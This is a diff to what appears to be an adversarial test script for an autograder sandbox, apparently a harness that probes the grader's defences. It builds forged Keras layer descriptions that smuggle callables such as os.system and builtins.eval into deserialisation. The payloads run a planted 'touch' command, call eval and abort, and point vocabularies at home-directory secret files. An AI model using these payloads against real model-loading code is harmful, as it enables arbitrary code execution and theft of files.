@@ -1,5 +1,5 @@
 # mechanism: a forged description whose module, class and function names name any callable
-# success: a callable of the forger's choice runs in the grader, which the canaries tell
+# success: a callable of the forger's choice runs in the grader, which leaves a file in /tmp
 # assignment: 08_parameter_counting
 
 # %%
@@ -8,8 +8,9 @@ import json
 import sys
 
 wire = sys.modules["autograder.sandbox.wire"]
+plant = "touch /tmp/planted-by-mallory-config"
 function = {"module": "builtins", "class_name": "function", "registered_name": "function"}
-command = {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/forged"}}
+command = {"module": "os", "class_name": "system", "config": {"command": plant}}
 evaluated = {"module": "builtins", "class_name": "eval", "config": "__import__('os').abort()"}
 dense = {"units": 3, "activation": "linear", "use_bias": True, "name": "d"}
 
@@ -25,7 +26,7 @@ def layer(name, config, module="keras.layers", registered=None):
 
 
 descriptions = [
-    layer("system", {"command": "touch /tmp/forged"}, module="os"),
+    layer("system", {"command": plant}, module="os"),
     layer("Dense", dense, registered="os>system"),
     layer("Dense", dense, module="keras.src.legacy.saving.serialization"),
     layer("Lambda", {"name": "l", "function": {**function, "config": "system"}}),
@@ -35,9 +36,10 @@ descriptions = [
     layer("Dense", {**dense, "kernel_regularizer": evaluated}),
     layer("Dense", {**dense, "kernel_constraint": command}),
     layer("TorchModuleWrapper", {"module": "gASV", "name": "t"}),
-    layer("TextVectorization", {"vocabulary": "/etc/passwd", "name": "v"}),
+    layer("TextVectorization", {"vocabulary": "@CANARY@", "name": "v"}),
+    layer("StringLookup", {"vocabulary": "@HOME@/secret.txt", "name": "v"}),
     layer("__class__", {}),
-    layer("TFSMLayer", {"filepath": "/etc", "name": "s"}),
+    layer("TFSMLayer", {"filepath": "@HOME@", "name": "s"}),
 ]
 turns = itertools.cycle(descriptions)
 
